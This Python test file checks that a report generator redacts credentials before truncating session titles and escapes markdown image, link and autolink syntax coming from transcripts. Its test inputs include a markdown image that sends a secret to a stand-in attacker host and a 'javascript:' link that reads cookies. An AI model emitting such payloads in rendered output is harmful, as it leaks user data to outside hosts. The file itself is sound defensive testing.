"""Security review: report titles are redacted before they are cut; report.md has no live image/link syntax."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

from daily_report.engine.assemble import session_summary, session_title
from daily_report.report.markdown import block, cell, inline
from daily_report.schemas.transcript import Session, Turn
from daily_report.text.redact import Redactor, safe_cut

PASSWORD = "VeryS3cretPassw0rdThatIsLong"
UNESCAPED_CLOSE = re.compile(r"(?<!\\)\]\(")


def session_with_prompt(text: str) -> Session:
    turns = [Turn(index=0, role="human", text=text, timestamp=datetime(2026, 2, 22, 9, tzinfo=UTC))]
    return Session(id="s1", agent="claude_code", device="d", project="p", turns=turns)


def test_reviewer_reproduction_title_keeps_no_part_of_the_password() -> None:
    prompt = "please check why the app cannot connect with " + f"postgres://admin:{PASSWORD}@db:5432/app"
    assert prompt.index("@") > 80  # the cut at 80 falls inside the password: a late redaction misses it
    session = session_with_prompt(prompt)
    title = session_title(session, None, redact=Redactor().fork().redact)
    assert PASSWORD[:6] not in title
    assert title.startswith("please check why") and title.endswith("…")


def test_session_summary_title_goes_through_the_fork() -> None:
    session = session_with_prompt(
        f"deploy with token=ghp_{'R4nd0mT0k3nV4lu3Xy' * 2} now please, and then " * 2
    )
    summary = session_summary(
        session,
        zone=ZoneInfo("UTC"),
        events=[],
        facts=None,
        chunks=1,
        failed=False,
        redact=Redactor().fork().redact,
    )
    assert "R4nd0m" not in summary.title
    assert "[REDACTED:github-token#1]" in summary.title  # a placeholder the cut would split is kept whole


def test_agent_title_redacted_and_not_cut() -> None:
    session = session_with_prompt("hi").model_copy(update={"title": f"db at redis://:{PASSWORD}@cache:6379"})
    assert session_title(session, None, redact=Redactor().redact) == (
        "db at redis://:[REDACTED:url-password#1]@cache:6379"
    )


def test_safe_cut_extends_over_a_straddled_placeholder() -> None:
    text = "x" * 10 + "[REDACTED:url-password#1]" + "y" * 10
    assert safe_cut(text, 15) == 10 + len("[REDACTED:url-password#1]")
    assert safe_cut(text, 5) == 5
    assert safe_cut(text, 200) == len(text)


# --- report.md: images and links from transcript/model text -----------------------------------------


def test_image_syntax_is_escaped() -> None:
    out = inline("see ![x](https://evil.example/p?d=secret) here")
    assert "![" not in out and not UNESCAPED_CLOSE.search(out)
    assert out == "see !\\[x\\](https://evil.example/p?d=secret) here"


def test_link_syntax_is_escaped() -> None:
    out = inline("[click](javascript:alert(document.cookie))")
    assert not UNESCAPED_CLOSE.search(out)
    assert cell("![a][ref] | [b][ref]").count("\\][") == 2


def test_autolinks_and_reference_definitions_are_neutralized() -> None:
    assert "<https://" not in inline("fetch <https://evil.example/x.png>")
    assert block("text\n[ref]: https://evil.example/x.png").splitlines()[1].startswith("\\[ref]:")


def test_ordinary_brackets_unchanged() -> None:
    text = "fixed list[0] in f(x) at [t12] and [done] it"
    assert inline(text) == text
